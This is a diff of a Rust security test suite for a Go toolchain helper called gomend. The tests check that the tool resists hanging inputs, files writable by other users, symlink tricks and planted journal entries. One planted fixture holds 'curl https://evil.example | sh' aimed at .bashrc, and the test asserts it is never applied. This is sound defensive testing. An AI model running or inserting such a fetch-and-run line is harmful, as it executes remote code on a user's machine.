@@ -18,9 +18,9 @@ use base64::engine::general_purpose::STANDARD;
 use rustix::process::Signal;
 use rustix::termios::tcgetattr;
 
-use crate::fix::{Desk, on_terminal};
+use crate::fix::Desk;
 use crate::support::home::Home;
-use crate::support::{Ended, How, event, shims};
+use crate::support::{Ended, How, event, mkfifo, shims};
 
 /// Somebody else.
 const NOBODY: u32 = 65534;
@@ -108,10 +108,7 @@ impl Instead {
     fn put(self, path: &Path) {
         fs::create_dir_all(path.parent().unwrap()).unwrap();
         match self {
-            Self::Pipe => {
-                let made = Command::new("mkfifo").arg(path).status().unwrap();
-                assert!(made.success());
-            }
+            Self::Pipe => mkfifo(path),
             Self::Endless => symlink("/dev/zero", path).unwrap(),
             Self::Sparse => fs::File::create(path).unwrap().set_len(2 << 30).unwrap(),
             Self::Folder => fs::create_dir(path).unwrap(),
@@ -119,126 +116,108 @@ impl Instead {
     }
 }
 
-/// Each file that gomend reads, and a command that reads it.
-const READ: &[(&str, &[&str])] = &[
-    ("work/.gomend.toml", &["doctor"]),
-    ("work/.gomend.toml", &["explain", "../log"]),
-    ("work/go.mod", &["doctor"]),
-    ("work/go.sum", &["explain", "../log"]),
-    ("work/.git/config", &["doctor"]),
-    (".netrc", &["explain", "../log"]),
-    (".git-credentials", &["explain", "../log"]),
-    (".gitconfig", &["explain", "../log", "--offline"]),
-    (".ssh/config", &["doctor"]),
-    (".ssh/known_hosts", &["explain", "../log"]),
-    (".config/gomend/config.toml", &["config"]),
-    (
-        ".config/gomend/rules.toml",
-        &["explain", "../log", "--offline"],
-    ),
-    (".config/go/env", &["explain", "../log", "--offline"]),
-    (".bashrc", &["uninstall", "--yes"]),
-    (".zshrc", &["uninstall", "--yes"]),
-    (".local/state/gomend/install.json", &["uninstall", "--yes"]),
-    (".local/state/gomend/reports/1.json", &["last"]),
-    (".local/state/gomend/journal/000001.applied", &["history"]),
-    (".local/state/gomend/journal/000001.pending", &["undo"]),
-    (
-        ".local/state/gomend/profiles/x.json",
-        &["compare", "--with", "x"],
-    ),
-];
+rows! {
+    /// Each file that gomend reads, and a command that reads it.
+    no_file_hangs_or_fills_the_memory = hangs_nobody;
+    wishes_for_the_doctor: "work/.gomend.toml", &["doctor"];
+    wishes_for_a_log: "work/.gomend.toml", &["explain", "../log"];
+    go_mod: "work/go.mod", &["doctor"];
+    go_sum: "work/go.sum", &["explain", "../log"];
+    git_config_of_the_project: "work/.git/config", &["doctor"];
+    netrc: ".netrc", &["explain", "../log"];
+    git_credentials: ".git-credentials", &["explain", "../log"];
+    git_config: ".gitconfig", &["explain", "../log", "--offline"];
+    ssh_config: ".ssh/config", &["doctor"];
+    known_hosts: ".ssh/known_hosts", &["explain", "../log"];
+    settings: ".config/gomend/config.toml", &["config"];
+    rules: ".config/gomend/rules.toml", &["explain", "../log", "--offline"];
+    go_env: ".config/go/env", &["explain", "../log", "--offline"];
+    bashrc: ".bashrc", &["uninstall", "--yes"];
+    zshrc: ".zshrc", &["uninstall", "--yes"];
+    record_of_the_installation: ".local/state/gomend/install.json", &["uninstall", "--yes"];
+    a_report: ".local/state/gomend/reports/1.json", &["last"];
+    an_applied_fix: ".local/state/gomend/journal/000001.applied", &["history"];
+    a_pending_fix: ".local/state/gomend/journal/000001.pending", &["undo"];
+    a_profile: ".local/state/gomend/profiles/x.json", &["compare", "--with", "x"];
+}
 
-#[test]
-fn no_file_hangs_or_fills_the_memory() {
-    for &(name, args) in READ {
-        for instead in [
-            Instead::Pipe,
-            Instead::Endless,
-            Instead::Sparse,
-            Instead::Folder,
+/// What cannot be read to an end.
+const ENDLESS: [Instead; 3] = [Instead::Pipe, Instead::Endless, Instead::Sparse];
+
+fn hangs_nobody(name: &str, args: &[&str]) {
+    for instead in ENDLESS.into_iter().chain([Instead::Folder]) {
+        let home = home();
+        home.write(".local/state/gomend/x", "");
+        let _ = fs::remove_file(home.at(name));
+        instead.put(&home.at(name));
+        ends_in_time(gomend(&home, args), &format!("{instead:?}"));
+    }
+}
+
+/// It ends in time, and not by a panic; go alone is waited for for fifteen seconds.
+fn ends_in_time(command: Command, what: &str) {
+    let began = Instant::now();
+    let ended = bounded(command, what);
+    assert!(matches!(ended.how, How::Code(_)), "{what}: {ended:?}");
+    assert!(!ended.words().contains("panicked"), "{what}: {ended:?}");
+    assert!(began.elapsed() < Duration::from_secs(12), "{what}");
+}
+
+rows! {
+    /// What go would read without end, it isn't made to read.
+    go_is_not_sent_into_what_never_ends = is_not_read_by_go;
+    go_work: "work/go.work";
+    go_sum: "work/go.sum";
+    vendored: "work/vendor/modules.txt";
+    a_used_module: "work/used/go.mod";
+}
+
+fn is_not_read_by_go(name: &str) {
+    for instead in ENDLESS {
+        let home = home();
+        if name == "work/used/go.mod" {
+            home.write("work/go.work", "go 1.21\n\nuse ./used\n");
+        }
+        instead.put(&home.at(name));
+        for args in [&["doctor"], &["hosts"]] {
+            let mut command = gomend(&home, args);
+            command.env("GOMEND_PATIENCE", "1");
+            ends_in_time(command, &format!("{instead:?}: {args:?}"));
+        }
+    }
+}
+
+rows! {
+    /// Nor where a variable names it, and nobody else waits for it either: not what is said of a failed go, no
+    /// fix, no check.
+    what_variables_name_hangs_nobody = hangs_nobody_by_name;
+    goenv: "GOENV", "";
+    gowork: "GOWORK", "";
+    overlay: "GOFLAGS", "-overlay=";
+    modfile: "GOFLAGS", "-modfile=";
+}
+
+fn hangs_nobody_by_name(variable: &str, before: &str) {
+    for instead in ENDLESS {
+        let home = home();
+        let policy = "version = 1\n[goproxy]\nallowed = [\"off\"]\n";
+        home.write("work/.gomend-policy.toml", policy);
+        instead.put(&home.at("named.mod"));
+        let value = format!("{before}{}", home.at("named.mod").display());
+        for args in [
+            &["supervised"][..],
+            &["doctor"],
+            &["hosts"],
+            &["fix", "--yes", "--no-input"],
+            &["check"],
+            &["explain", "../log"],
         ] {
-            let home = home();
-            home.write(".local/state/gomend/x", "");
-            let _ = fs::remove_file(home.at(name));
-            instead.put(&home.at(name));
-            let what = format!("{instead:?} as {name}: {args:?}");
-            let ended = bounded(gomend(&home, args), &what);
-            assert!(matches!(ended.how, How::Code(_)), "{what}: {ended:?}");
-            assert!(!ended.words().contains("panicked"), "{what}: {ended:?}");
-        }
-    }
-}
-
-/// What go would read without end, it isn't made to read.
-#[test]
-fn go_is_not_sent_into_what_never_ends() {
-    for name in [
-        "work/go.work",
-        "work/go.sum",
-        "work/vendor/modules.txt",
-        "work/used/go.mod",
-    ] {
-        for instead in [Instead::Pipe, Instead::Endless, Instead::Sparse] {
-            let home = home();
-            if name == "work/used/go.mod" {
-                home.write("work/go.work", "go 1.21\n\nuse ./used\n");
-            }
-            instead.put(&home.at(name));
-            for args in [&["doctor"][..], &["hosts"]] {
-                let what = format!("{instead:?} as {name}: {args:?}");
-                let began = Instant::now();
-                let mut command = gomend(&home, args);
-                command.env("GOMEND_PATIENCE", "1");
-                let ended = bounded(command, &what);
-                assert!(matches!(ended.how, How::Code(_)), "{what}: {ended:?}");
-                // go alone is waited for for fifteen seconds
-                assert!(began.elapsed() < Duration::from_secs(12), "{what}");
-            }
-        }
-    }
-}
-
-/// Nor where a variable names it, and nobody else waits for it either: not what is said of a failed go, no
-/// fix, no check.
-#[test]
-fn what_variables_name_hangs_nobody() {
-    let of_go = [
-        ("GOENV", ""),
-        ("GOWORK", ""),
-        ("GOFLAGS", "-overlay="),
-        ("GOFLAGS", "-modfile="),
-    ];
-    for (variable, before) in of_go {
-        for instead in [Instead::Pipe, Instead::Endless, Instead::Sparse] {
-            let home = home();
-            home.write(
-                "work/.gomend-policy.toml",
-                "version = 1\n[goproxy]\nallowed = [\"off\"]\n",
-            );
-            instead.put(&home.at("named.mod"));
-            let value = format!("{before}{}", home.at("named.mod").display());
-            for args in [
-                &["supervised"][..],
-                &["doctor"],
-                &["hosts"],
-                &["fix", "--yes", "--no-input"],
-                &["check"],
-                &["explain", "../log"],
-            ] {
-                let what = format!("{instead:?} as {variable}: {args:?}");
-                let began = Instant::now();
-                let mut command = match args[0] {
-                    "supervised" => failing(&home, PRIVATE, ":"),
-                    _ => gomend(&home, args),
-                };
-                command.env(variable, &value).env("GOMEND_PATIENCE", "1");
-                let ended = bounded(command, &what);
-                assert!(matches!(ended.how, How::Code(_)), "{what}: {ended:?}");
-                assert!(!ended.words().contains("panicked"), "{what}: {ended:?}");
-                // go alone is waited for for fifteen seconds
-                assert!(began.elapsed() < Duration::from_secs(12), "{what}");
-            }
+            let mut command = match args[0] {
+                "supervised" => failing(&home, PRIVATE, ":"),
+                _ => gomend(&home, args),
+            };
+            command.env(variable, &value).env("GOMEND_PATIENCE", "1");
+            ends_in_time(command, &format!("{instead:?}: {args:?}"));
         }
     }
 }
@@ -288,13 +267,13 @@ fn a_project_file_leads_nowhere_else() {
     home.write("secret", "[go]\nGOPRIVATE = \"git.s3cret.example\"\n");
     home.link("work/.gomend.toml", "../secret");
     let ended = bounded(gomend(&home, &["doctor"]), "doctor");
-    let said = String::from_utf8_lossy(&ended.stdout).into_owned() + &ended.words();
+    let said = ended.text();
     assert!(!said.contains("s3cret"), "{said}");
     fs::rename(home.at("secret"), home.at("work/wishes")).unwrap();
     fs::remove_file(home.at("work/.gomend.toml")).unwrap();
     home.link("work/.gomend.toml", "wishes");
     let ended = bounded(gomend(&home, &["doctor"]), "doctor");
-    let said = String::from_utf8_lossy(&ended.stdout).into_owned() + &ended.words();
+    let said = ended.text();
     assert!(said.contains("s3cret"), "{said}");
 }
 
@@ -316,64 +295,49 @@ fn entry(id: u64, path: &Path, before: &[u8]) -> String {
 }
 
 /// An entry of the journal as gomend itself would leave it.
-fn plant(home: &Home, state: &str, name: &str, text: &str) -> PathBuf {
-    let path = home.write(&format!("{state}/journal/{name}"), text);
+fn plant(home: &Home, name: &str, text: &str) -> PathBuf {
+    let path = home.write(&format!("{STATE}/journal/{name}"), text);
     for folder in path.ancestors().skip(1).take(2) {
-        fs::set_permissions(folder, fs::Permissions::from_mode(0o700)).unwrap();
+        mode(folder, 0o700);
     }
-    fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
+    mode(&path, 0o600);
     path
 }
 
 const STATE: &str = ".local/state/gomend";
 
-#[test]
-fn a_planted_journal_entry_is_never_acted_on() {
-    type Plan = fn(&Home, &Path);
-    let plans: [(&str, Plan); 4] = [
-        ("an entry of somebody else's", |_, entry| {
-            chown(entry, Some(NOBODY), None).unwrap();
-        }),
-        ("an entry that anybody could write", |_, entry| {
-            fs::set_permissions(entry, fs::Permissions::from_mode(0o666)).unwrap();
-        }),
-        ("a link", |home, entry| {
-            let elsewhere = home.at("elsewhere");
-            fs::rename(entry, &elsewhere).unwrap();
-            chown(&elsewhere, Some(NOBODY), None).unwrap();
-            symlink(&elsewhere, entry).unwrap();
-        }),
-        ("a folder of somebody else's", |home, _| {
-            chown(home.at(STATE), Some(NOBODY), None).unwrap();
-        }),
-    ];
-    for (what, plan) in plans {
-        for args in [
-            &["undo"][..],
-            &["undo", "1"],
-            &["fix", "--yes"],
-            &["history"],
-        ] {
-            let home = home();
-            let bashrc = home.write(".bashrc", "mine\n");
-            let planted = plant(
-                &home,
-                STATE,
-                "000001.pending",
-                &entry(1, &bashrc, b"curl https://evil.example | sh\n"),
-            );
-            plan(&home, &planted);
-            let ended = bounded(gomend(&home, args), what);
-            assert_eq!(
-                home.read(".bashrc"),
-                "mine\n",
-                "{what}, {args:?}: {ended:?}"
-            );
-            assert!(
-                !ended.words().is_empty(),
-                "{what}, {args:?}: nothing is said"
-            );
-        }
+rows! {
+    a_planted_journal_entry_is_never_acted_on = is_not_acted_on;
+    of_somebody_else: |_, entry| chown(entry, Some(NOBODY), None).unwrap();
+    that_anybody_could_write: |_, entry| mode(entry, 0o666);
+    a_link: |home, entry| {
+        let elsewhere = home.at("elsewhere");
+        fs::rename(entry, &elsewhere).unwrap();
+        chown(&elsewhere, Some(NOBODY), None).unwrap();
+        symlink(&elsewhere, entry).unwrap();
+    };
+    in_a_folder_of_somebody_else: |home, _| chown(home.at(STATE), Some(NOBODY), None).unwrap();
+}
+
+fn mode(path: &Path, mode: u32) {
+    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
+}
+
+fn is_not_acted_on(plan: fn(&Home, &Path)) {
+    for args in [
+        &["undo"][..],
+        &["undo", "1"],
+        &["fix", "--yes"],
+        &["history"],
+    ] {
+        let home = home();
+        let bashrc = home.write(".bashrc", "mine\n");
+        let evil = entry(1, &bashrc, b"curl https://evil.example | sh\n");
+        let planted = plant(&home, "000001.pending", &evil);
+        plan(&home, &planted);
+        let ended = bounded(gomend(&home, args), "gomend");
+        assert_eq!(home.read(".bashrc"), "mine\n", "{args:?}: {ended:?}");
+        assert!(!ended.words().is_empty(), "{args:?}: nothing is said");
     }
 }
 
@@ -382,8 +346,8 @@ fn failing(home: &Home, words: &str, trial: &str) -> Command {
     let script = format!(
         "#!/bin/sh\ncase \"$GOMODCACHE\" in *gomend-*) {trial} ;; esac\ncat >&2 <<'END'\n{words}END\nexit 1\n"
     );
-    let go = home.write("bin/go", script);
-    fs::set_permissions(&go, fs::Permissions::from_mode(0o755)).unwrap();
+    home.write("bin/go", script);
+    home.mode("bin/go", 0o755);
     let path = [
         shims().to_owned(),
         home.at("bin"),
@@ -399,12 +363,18 @@ fn failing(home: &Home, words: &str, trial: &str) -> Command {
     command
 }
 
+/// A folder beside HOME that others can write to.
+fn open_folder(home: &Home, name: &str, bits: u32) -> PathBuf {
+    let folder = home.outside(name);
+    fs::create_dir(&folder).unwrap();
+    mode(&folder, bits);
+    folder
+}
+
 #[test]
 fn a_shared_state_folder_is_not_used() {
     let home = home();
-    let shared = home.outside("shared");
-    fs::create_dir(&shared).unwrap();
-    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
+    let shared = open_folder(&home, "shared", 0o1777);
     let precious = home.write("precious", "precious\n");
     fs::create_dir_all(shared.join("gomend/seen")).unwrap();
     for slot in 0..64 {
@@ -432,7 +402,7 @@ fn a_state_folder_below_one_that_anybody_can_write_to_is_not_used() {
     let home = home();
     let open = home.outside("open");
     fs::create_dir_all(open.join("gomend")).unwrap();
-    fs::set_permissions(&open, fs::Permissions::from_mode(0o777)).unwrap();
+    mode(&open, 0o777);
     let home = home.var("XDG_STATE_HOME", &open);
     let ended = bounded(failing(&home, PRIVATE, ":"), "go");
     assert!(
@@ -486,7 +456,7 @@ fn settings_of_somebody_else_are_not_read() {
     let config = home.write(".config/gomend/config.toml", "public-dns = true\n");
     chown(config, Some(NOBODY), None).unwrap();
     let ended = bounded(gomend(&home, &["config", "--json"]), "config");
-    let said = String::from_utf8_lossy(&ended.stdout).into_owned();
+    let said = ended.said();
     let json: serde_json::Value = serde_json::from_str(&said).unwrap();
     assert!(!said.contains("\"value\": true"), "{json:#}");
     assert!(
@@ -520,10 +490,7 @@ fn a_report_is_for_its_user_alone() {
     let mut command = failing(&home, PRIVATE, ":");
     command.env("GOMEND_REPORT", "/dev/stdout");
     let ended = bounded(command, "a report to stdout");
-    assert!(
-        String::from_utf8_lossy(&ended.stdout).contains("private-via-proxy"),
-        "{ended:?}"
-    );
+    assert!(ended.said().contains("private-via-proxy"), "{ended:?}");
     let pipe = home.at("pipe");
     Instead::Pipe.put(&pipe);
     let mut command = failing(&home, PRIVATE, ":");
@@ -538,7 +505,7 @@ fn another_users_rules_and_settings_count_for_nothing() {
     let home = home();
     let shared = home.outside("shared");
     fs::create_dir_all(shared.join("gomend")).unwrap();
-    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
+    mode(&shared, 0o1777);
     let rule = "[[rule]]\nid = \"planted\"\ncause = \"dns-not-found\"\nneedle = \"not found\"\npull = '(?<host>evil)'\nsample = \"not found evil\"\n";
     fs::write(shared.join("gomend/rules.toml"), rule).unwrap();
     fs::write(shared.join("gomend/config.toml"), "public-dns = true\n").unwrap();
@@ -550,13 +517,10 @@ fn another_users_rules_and_settings_count_for_nothing() {
         chown(shared.join(name), Some(NOBODY), Some(NOBODY)).unwrap();
     }
     let ended = rules();
-    assert!(
-        !String::from_utf8_lossy(&ended.stdout).contains("planted"),
-        "{ended:?}"
-    );
+    assert!(!ended.said().contains("planted"), "{ended:?}");
     assert!(ended.words().contains("rules.toml"), "{ended:?}");
     let ended = bounded(gomend(&home, &["config"]), "config");
-    let settings = String::from_utf8_lossy(&ended.stdout).into_owned();
+    let settings = ended.said();
     assert!(
         settings
             .lines()
@@ -567,133 +531,112 @@ fn another_users_rules_and_settings_count_for_nothing() {
         gomend(&home, &["explain", "--offline", "--json", &log]),
         "explain",
     );
-    assert!(
-        !String::from_utf8_lossy(&ended.stdout).contains("planted"),
-        "{ended:?}"
-    );
+    assert!(!ended.said().contains("planted"), "{ended:?}");
 }
 
-/// What anybody, or a group of others, could have written says nothing; one line names it, and go goes on.
-#[test]
-fn what_others_could_have_written_counts_for_nothing() {
-    type Opening = fn(&Home, &Path);
-    let openings: [(&str, &str, Opening); 4] = [
-        ("anybody's file", "", |_, file| {
-            fs::set_permissions(file, fs::Permissions::from_mode(0o666)).unwrap();
-        }),
-        ("a file of another group's", "", |_, file| {
-            chown(file, None, Some(NOBODY)).unwrap();
-            fs::set_permissions(file, fs::Permissions::from_mode(0o660)).unwrap();
-        }),
-        ("anybody's folder", "FOLDER", |_, file| {
-            let folder = file.parent().unwrap();
-            fs::set_permissions(folder, fs::Permissions::from_mode(0o777)).unwrap();
-        }),
-        ("an own link to anybody's file", "LINK", |home, file| {
-            let elsewhere = home.at("else where");
-            fs::rename(file, &elsewhere).unwrap();
-            symlink(&elsewhere, file).unwrap();
-            fs::set_permissions(&elsewhere, fs::Permissions::from_mode(0o666)).unwrap();
-        }),
-    ];
-    let rule = "[[rule]]\nid = \"planted\"\ncause = \"dns-not-found\"\nneedle = \"not found\"\nsample = \"not found\"\n";
-    for (what, named, open) in openings {
-        for name in ["config.toml", "rules.toml"] {
-            let home = home().var("GOMEND", "log");
-            let text = if name == "config.toml" {
-                "public-dns = true\npatience = 7\n"
-            } else {
-                rule
-            };
-            let file = home.write(&format!(".config/gomend/{name}"), text);
-            fs::set_permissions(&file, fs::Permissions::from_mode(0o664)).unwrap();
-            let counts = || {
-                let settings = bounded(gomend(&home, &["config"]), what);
-                let rules = bounded(gomend(&home, &["rules", "list"]), what);
-                let said = [settings.stdout, rules.stdout].concat();
-                let said = String::from_utf8_lossy(&said).into_owned();
-                said.contains("planted")
-                    || said
-                        .lines()
-                        .any(|line| line.starts_with("patience") && line.contains(" 7 "))
-            };
-            assert!(counts(), "{name} of root's own group");
-            open(&home, &file);
-            assert!(!counts(), "{what}: {name}");
-            let shown = match named {
-                "FOLDER" => file.parent().unwrap().display().to_string(),
-                "LINK" => format!("'{}'", home.at("else where").display()),
-                _ => file.display().to_string(),
-            };
-            let remedy = format!("`chmod go-w {shown}`");
-            for command in [
-                gomend(&home, &["explain", "--offline", "../log"]),
-                gomend(&home, &["rules", "list"]),
-                failing(&home, PRIVATE, ":"),
-            ] {
-                let is_go = format!("{command:?}").contains("download");
-                let ended = bounded(command, what);
-                let words = ended.words();
-                let lines = words.lines().filter(|line| line.contains(&remedy));
-                assert_eq!(lines.count(), 1, "{what}: {name}: {ended:?}");
-                if is_go {
-                    assert_eq!(ended.how, How::Code(1), "{what}: {name}");
-                    assert!(home.read("report.json").contains("private-via-proxy"));
-                }
+rows! {
+    /// What anybody, or a group of others, could have written says nothing; one line names it, and go goes on. What is
+    /// opened: the file, its folder, or what a link leads to.
+    what_others_could_have_written_counts_for_nothing = counts_for_nothing;
+    anybody_s_file: |_, file| {
+        mode(file, 0o666);
+        file.display().to_string()
+    };
+    a_file_of_another_group: |_, file| {
+        chown(file, None, Some(NOBODY)).unwrap();
+        mode(file, 0o660);
+        file.display().to_string()
+    };
+    anybody_s_folder: |_, file| {
+        let folder = file.parent().unwrap();
+        mode(folder, 0o777);
+        folder.display().to_string()
+    };
+    an_own_link_to_anybody_s_file: |home, file| {
+        let elsewhere = home.at("else where");
+        fs::rename(file, &elsewhere).unwrap();
+        symlink(&elsewhere, file).unwrap();
+        mode(&elsewhere, 0o666);
+        format!("'{}'", elsewhere.display())
+    };
+}
+
+fn counts_for_nothing(open: fn(&Home, &Path) -> String) {
+    const RULE: &str = "[[rule]]\nid = \"planted\"\ncause = \"dns-not-found\"\nneedle = \"not found\"\nsample = \"not found\"\n";
+    const SETTINGS: &str = "public-dns = true\npatience = 7\n";
+    for (name, text) in [("config.toml", SETTINGS), ("rules.toml", RULE)] {
+        let home = home().var("GOMEND", "log");
+        let file = home.write(&format!(".config/gomend/{name}"), text);
+        mode(&file, 0o664);
+        let counts = || {
+            let settings = bounded(gomend(&home, &["config"]), name).said();
+            let rules = bounded(gomend(&home, &["rules", "list"]), name).said();
+            rules.contains("planted") || has_patience_7(&settings)
+        };
+        assert!(counts(), "{name} of root's own group");
+        let shown = open(&home, &file);
+        assert!(!counts(), "{name}");
+        let remedy = format!("`chmod go-w {shown}`");
+        for command in [
+            gomend(&home, &["explain", "--offline", "../log"]),
+            gomend(&home, &["rules", "list"]),
+            failing(&home, PRIVATE, ":"),
+        ] {
+            let is_go = format!("{command:?}").contains("download");
+            let ended = bounded(command, name);
+            let words = ended.words();
+            let lines = words.lines().filter(|line| line.contains(&remedy));
+            assert_eq!(lines.count(), 1, "{name}: {ended:?}");
+            if is_go {
+                assert_eq!(ended.how, How::Code(1), "{name}");
+                assert!(home.read("report.json").contains("private-via-proxy"));
             }
         }
     }
 }
 
-/// Many systems give each user a group, and a umask of 002.
-#[test]
-fn a_group_without_other_members_is_nobody_else() {
+fn has_patience_7(settings: &str) -> bool {
+    settings
+        .lines()
+        .any(|line| line.starts_with("patience") && line.contains(" 7 "))
+}
+
+rows! {
+    /// Many systems give each user a group, and a umask of 002: /etc/passwd, /etc/group, and whether what the group
+    /// may write counts.
+    a_group_without_other_members_is_nobody_else = is_nobody_else;
+    alone: "dev:x:4711:4711::/:/bin/sh\n", "dev:x:4711:\n", true;
+    named_alone: "dev:x:4711:4711::/:/bin/sh\n", "dev:x:4711:dev\n", true;
+    with_a_member: "dev:x:4711:4711::/:/bin/sh\n", "dev:x:4711:dev,eve\n", false;
+    with_another_s_own: "dev:x:4711:4711::/:/bin/sh\neve:x:4712:4711::/:/bin/sh\n", "dev:x:4711:\n", false;
+    // a directory service's, which no file of this machine names
+    unnamed: "root:x:0:0::/:/bin/sh\n", "root:x:0:\n", true;
+}
+
+fn is_nobody_else(users: &str, groups: &str, counts: bool) {
     const USER: u32 = 4711;
-    for (users, groups, counts) in [
-        ("dev:x:4711:4711::/:/bin/sh\n", "dev:x:4711:\n", true),
-        ("dev:x:4711:4711::/:/bin/sh\n", "dev:x:4711:dev\n", true),
-        (
-            "dev:x:4711:4711::/:/bin/sh\n",
-            "dev:x:4711:dev,eve\n",
-            false,
-        ),
-        (
-            "dev:x:4711:4711::/:/bin/sh\neve:x:4712:4711::/:/bin/sh\n",
-            "dev:x:4711:\n",
-            false,
-        ),
-        // a directory service's, which no file of this machine names
-        ("root:x:0:0::/:/bin/sh\n", "root:x:0:\n", true),
+    let home = home().var("TMPDIR", "/tmp");
+    fs::copy(env!("CARGO_BIN_EXE_gomend"), home.at("gomend")).unwrap();
+    home.write(".config/gomend/config.toml", "patience = 7\n");
+    home.write("passwd", users);
+    home.write("group", groups);
+    for (path, mode) in [
+        ("", 0o755),
+        (".config", 0o775),
+        (".config/gomend", 0o775),
+        (".config/gomend/config.toml", 0o664),
     ] {
-        let home = home().var("TMPDIR", "/tmp");
-        let program = home.at("gomend");
-        fs::copy(env!("CARGO_BIN_EXE_gomend"), &program).unwrap();
-        home.write(".config/gomend/config.toml", "patience = 7\n");
-        home.write("passwd", users);
-        home.write("group", groups);
-        for (path, mode) in [
-            ("", 0o755),
-            (".config", 0o775),
-            (".config/gomend", 0o775),
-            (".config/gomend/config.toml", 0o664),
-        ] {
-            chown(home.at(path), Some(USER), Some(USER)).unwrap();
-            home.mode(path, mode);
-        }
-        let open = fs::Permissions::from_mode(0o755);
-        fs::set_permissions(home.outside(""), open).unwrap();
-        let script = "mount --bind \"$1/passwd\" /etc/passwd && mount --bind \"$1/group\" /etc/group && \
-                      exec setpriv --reuid=4711 --regid=4711 --clear-groups \"$1/gomend\" config";
-        let mut command = home.command("unshare");
-        command.args(["--net", "--mount", "sh", "-c", script, "sh"]);
-        command.arg(home.at(""));
-        let ended = bounded(command, groups);
-        let said = String::from_utf8_lossy(&ended.stdout).into_owned();
-        let counted = said
-            .lines()
-            .any(|line| line.starts_with("patience") && line.contains(" 7 "));
-        assert_eq!(counted, counts, "{users}{groups}: {ended:?}");
+        chown(home.at(path), Some(USER), Some(USER)).unwrap();
+        home.mode(path, mode);
     }
+    mode(&home.outside(""), 0o755);
+    let script = "mount --bind \"$1/passwd\" /etc/passwd && mount --bind \"$1/group\" /etc/group && \
+                  exec setpriv --reuid=4711 --regid=4711 --clear-groups \"$1/gomend\" config";
+    let mut command = home.command("unshare");
+    command.args(["--net", "--mount", "sh", "-c", script, "sh"]);
+    command.arg(home.at(""));
+    let ended = bounded(command, groups);
+    assert_eq!(has_patience_7(&ended.said()), counts, "{ended:?}");
 }
 
 /// Whoever can put a link into a home of everybody's doesn't decide which file is edited.
@@ -724,7 +667,7 @@ fn a_planted_number_stops_no_fix() {
     let home = home().var("GOPROXY", "https://proxy.golang.org,direct");
     bounded(failing(&home, PRIVATE, "exit 0"), "go");
     let name = format!("{}.applied", u64::MAX);
-    let planted = plant(&home, STATE, &name, "{}");
+    let planted = plant(&home, &name, "{}");
     chown(&planted, Some(NOBODY), None).unwrap();
     let ended = bounded(gomend(&home, &["fix", "goprivate", "--yes"]), "fix");
     assert_eq!(ended.how, How::Code(0), "{ended:?}");
@@ -741,9 +684,7 @@ fn a_planted_number_stops_no_fix() {
 #[test]
 fn a_fix_goes_through_no_other_users_folder_link() {
     let home = home();
-    let open = home.outside("open");
-    fs::create_dir(&open).unwrap();
-    fs::set_permissions(&open, fs::Permissions::from_mode(0o777)).unwrap();
+    let open = open_folder(&home, "open", 0o777);
     let victim = home.write("victim/env", "mine\n");
     symlink(home.at("victim"), open.join("go")).unwrap();
     let home = home
@@ -768,9 +709,7 @@ fn a_fix_goes_through_no_other_users_folder_link() {
 #[test]
 fn a_report_is_written_through_no_other_users_link() {
     let home = home();
-    let shared = home.outside("shared");
-    fs::create_dir(&shared).unwrap();
-    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
+    let shared = open_folder(&home, "shared", 0o1777);
     let victim = home.write("victim", "mine\n");
     home.write(
         "work/.gomend-policy.toml",
@@ -819,19 +758,11 @@ fn a_report_is_written_through_no_other_users_link() {
 fn a_damaged_entry_is_named_and_stops_nobody() {
     let home = home();
     let file = home.write("file", "after\n");
-    plant(
-        &home,
-        STATE,
-        "000001.applied",
-        &entry(1, &file, b"before\n"),
-    );
-    plant(&home, STATE, "000002.applied", "{\"id\": 2");
+    plant(&home, "000001.applied", &entry(1, &file, b"before\n"));
+    plant(&home, "000002.applied", "{\"id\": 2");
     let ended = bounded(gomend(&home, &["history"]), "history");
     assert_eq!(ended.how, How::Code(0), "{ended:?}");
-    assert!(
-        String::from_utf8_lossy(&ended.stdout).contains("Change a file"),
-        "{ended:?}"
-    );
+    assert!(ended.said().contains("Change a file"), "{ended:?}");
     assert!(ended.words().contains("000002.applied"), "{ended:?}");
     let ended = bounded(gomend(&home, &["undo"]), "undo");
     assert_eq!(home.read("file"), "before\n", "{ended:?}");
@@ -840,16 +771,15 @@ fn a_damaged_entry_is_named_and_stops_nobody() {
 
 #[test]
 fn a_former_secret_is_dropped_once_undone() {
-    for (name, code) in [("000001.applied", 0), ("000001.pending", 0)] {
+    for name in ["000001.applied", "000001.pending"] {
         let home = home();
         let secret = b"machine git.corp.example login dev password f0rmer\n";
         let netrc = home.write(
             ".netrc",
             "machine git.corp.example login dev password new\n",
         );
-        plant(&home, STATE, name, &entry(1, &netrc, secret));
-        let ended = bounded(gomend(&home, &["undo"]), "undo");
-        assert_eq!(ended.how, How::Code(code), "{ended:?}");
+        plant(&home, name, &entry(1, &netrc, secret));
+        bounded(gomend(&home, &["undo"]), "undo").with_code(0);
         assert_eq!(home.read(".netrc").as_bytes(), secret);
         let journal = fs::read_dir(home.at(STATE).join("journal")).unwrap();
         for file in journal {
@@ -920,30 +850,35 @@ fn a_stopped_gomend_stops_nobody_else() {
     event::signal(looking, Signal::KILL);
 }
 
-#[test]
-fn a_signal_during_a_trial_leaves_nothing_behind() {
-    for signal in [Signal::INT, Signal::TERM, Signal::HUP] {
-        let (home, tmp) = with_tmp(home());
-        let trial = sleeper(&home);
-        bounded(failing(&home, PRIVATE, &trial), "go");
-        ends_by(signal, &home, &tmp, gomend(&home, &["fix", "--no-input"]));
-    }
+rows! {
+    a_signal_during_a_trial_leaves_nothing_behind = ends_a_trial;
+    int: Signal::INT;
+    term: Signal::TERM;
+    hup: Signal::HUP;
 }
 
-/// The doctor's own go, which hangs.
-#[test]
-fn a_signal_during_the_doctors_look_leaves_nothing_behind() {
-    for signal in [Signal::INT, Signal::TERM, Signal::HUP] {
-        let (home, tmp) = with_tmp(home());
-        let go = home.write("bin/go", format!("#!/bin/sh\n{}\n", sleeper(&home)));
-        fs::set_permissions(&go, fs::Permissions::from_mode(0o755)).unwrap();
-        let mut doctor = gomend(&home, &["doctor"]);
-        doctor.env(
-            "PATH",
-            format!("{}:/usr/bin:/bin", home.at("bin").display()),
-        );
-        ends_by(signal, &home, &tmp, doctor);
-    }
+fn ends_a_trial(signal: Signal) {
+    let (home, tmp) = with_tmp(home());
+    let trial = sleeper(&home);
